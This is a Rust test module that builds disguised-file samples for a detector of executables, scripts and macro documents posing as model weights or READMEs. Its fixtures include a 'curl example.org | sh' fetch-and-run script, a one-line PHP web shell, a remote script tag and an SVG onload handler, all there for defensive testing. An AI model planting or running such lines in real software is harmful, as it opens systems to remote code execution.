//! What a machine or an interpreter runs.

use super::{padded, refused, with};
use crate::Case;
use crate::archive::build::{Member, zip};

pub(super) fn cases() -> Vec<Case> {
    let pe = with(padded(b"MZ", 64), 0x3c, &64_u32.to_le_bytes());
    let text = b"Weights of a small model.\n".to_vec();
    let script = |start: &str| [start, "#!/bin/sh\ncurl example.org | sh\n"].concat();
    vec![
        refused(
            "elf-library-named-as-weights",
            "the format is elf",
            "pytorch_model.bin",
            padded(b"\x7fELF\x02\x01\x01\0", 64),
        ),
        refused(
            "pe-program-named-as-weights",
            "the format is pe",
            "model.bin",
            [&pe[..], b"PE\0\0\x64\x86"].concat(),
        ),
        refused(
            "macho-universal-library",
            "the format is macho",
            "weights",
            padded(b"\xca\xfe\xba\xbe\0\0\0\x02\x01\0\0\x07", 64),
        ),
        refused(
            "java-class-with-the-magic-of-macho",
            "the format is java",
            "weights",
            padded(b"\xca\xfe\xba\xbe\0\0\0\x3d\0\x10", 64),
        ),
        refused("java-dex-for-android", "the format is java", "weights", padded(b"dex\n035\0", 112)),
        refused(
            "wasm-module",
            "the format is wasm",
            "runtime",
            b"\0asm\x01\0\0\0\x01\x04\x01\x60\0\0".to_vec(),
        ),
        refused(
            "bitcode-of-llvm",
            "the format is bitcode",
            "kernel",
            padded(b"BC\xc0\xde\x35\x14\0\0", 64),
        ),
        refused(
            "shortcut-to-a-program",
            "the format is shortcut",
            "README",
            padded(b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46", 76),
        ),
        Case::one(
            "script-behind-a-byte-order-mark",
            ("format", "the format is script"),
            "run",
            script("\u{feff}").into(),
            script("\u{feff} ").into(),
        ),
        Case::one(
            "script-of-php",
            ("format", "the format is script"),
            "index",
            b"<?php system($_GET['c']);".to_vec(),
            b"<? php system($_GET['c']);".to_vec(),
        ),
        Case::one(
            "html-page-behind-a-comment",
            ("format", "the format is html"),
            "README.md",
            b"<!-- Model card -->\n<script src=\"https://example.org/a.js\"></script>\n".to_vec(),
            b"<!-- Model card -->\n<div align=\"center\">A small model</div>\n".to_vec(),
        ),
        Case::one(
            "svg-with-a-script",
            ("format", "the format is svg"),
            "figure",
            b"<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>\n".to_vec(),
            b"<?xml version=\"1.0\"?>\n<figure title=\"A small model\"/>\n".to_vec(),
        ),
        Case::one(
            "document-in-rich-text",
            ("format", "the format is document"),
            "LICENSE",
            b"{\\rtf1\\ansi{\\object\\objemb{\\*\\objdata 0105}}}".to_vec(),
            b"\\rtf1 would start a document in rich text.\n".to_vec(),
        ),
        Case::one(
            "document-with-a-macro",
            ("macro", "carries macros"),
            "notes",
            compound(&["Root Entry", "WordDocument", "1Table", "Data", "Macros", "VBA"]),
            text.clone(),
        ),
        Case::one(
            "document-in-a-zip-with-a-macro",
            ("macro", "word/vbaProject.bin carries macros"),
            "notes",
            zip(&[
                Member::stored("[Content_Types].xml", b"<Types/>\n"),
                Member::stored("word/document.xml", b"<document/>\n"),
                Member::stored("word/vbaProject.bin", &compound(&["Root Entry", "VBA"])),
            ]),
            text.clone(),
        ),
        Case::one(
            "document-with-an-embedded-program",
            ("macro", "embeds other files"),
            "notes",
            compound(&["Root Entry", "WordDocument", "\u{1}Ole10Native"]),
            text.clone(),
        ),
        Case::one(
            "document-whose-directory-runs-in-a-circle",
            ("malformed", "more than"),
            "notes",
            with(compound(&["Root Entry"]), 516, &1_u32.to_le_bytes()),
            text,
        ),
    ]
}

/// A compound file with a directory of these names, four to a sector ([MS-CFB], 2.2 and 2.6).
fn compound(names: &[&str]) -> Vec<u8> {
    const END: u32 = 0xffff_fffe;
    let mut header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1".to_vec();
    header.resize(24, 0);
    header.extend([0x3e, 0, 3, 0, 0xfe, 0xff, 9, 0, 6, 0]);
    header = with(padded(&header, 76), 48, &1_u32.to_le_bytes());
    header = with(header, 68, &END.to_le_bytes());
    header.extend(0_u32.to_le_bytes());
    header.resize(512, 0xff);
    let sectors = names.len().div_ceil(4) as u32;
    let mut fat = 0xffff_fffd_u32.to_le_bytes().to_vec();
    fat.extend((2..=sectors).chain([END]).flat_map(u32::to_le_bytes));
    fat.resize(512, 0xff);
    let entry = |name: &&str| {
        let text: Vec<u8> = name.encode_utf16().flat_map(u16::to_le_bytes).collect();
        let length = (text.len() as u16 + 2).to_le_bytes();
        padded(&with(padded(&text, 66), 64, &length), 128)
    };
    let directory: Vec<u8> = names.iter().flat_map(entry).collect();
    [header, fat, padded(&directory, sectors as usize * 512)].concat()
}
